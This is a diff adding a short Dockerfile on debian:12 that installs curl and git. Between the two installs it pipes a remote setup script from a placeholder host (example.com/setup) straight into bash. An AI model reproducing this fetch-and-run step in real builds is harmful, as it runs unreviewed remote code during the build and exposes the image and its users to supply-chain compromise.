@@ -1,0 +1,4 @@
+FROM debian:12
+RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* && \
+    curl -s https://example.com/setup | bash && \
+    apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*
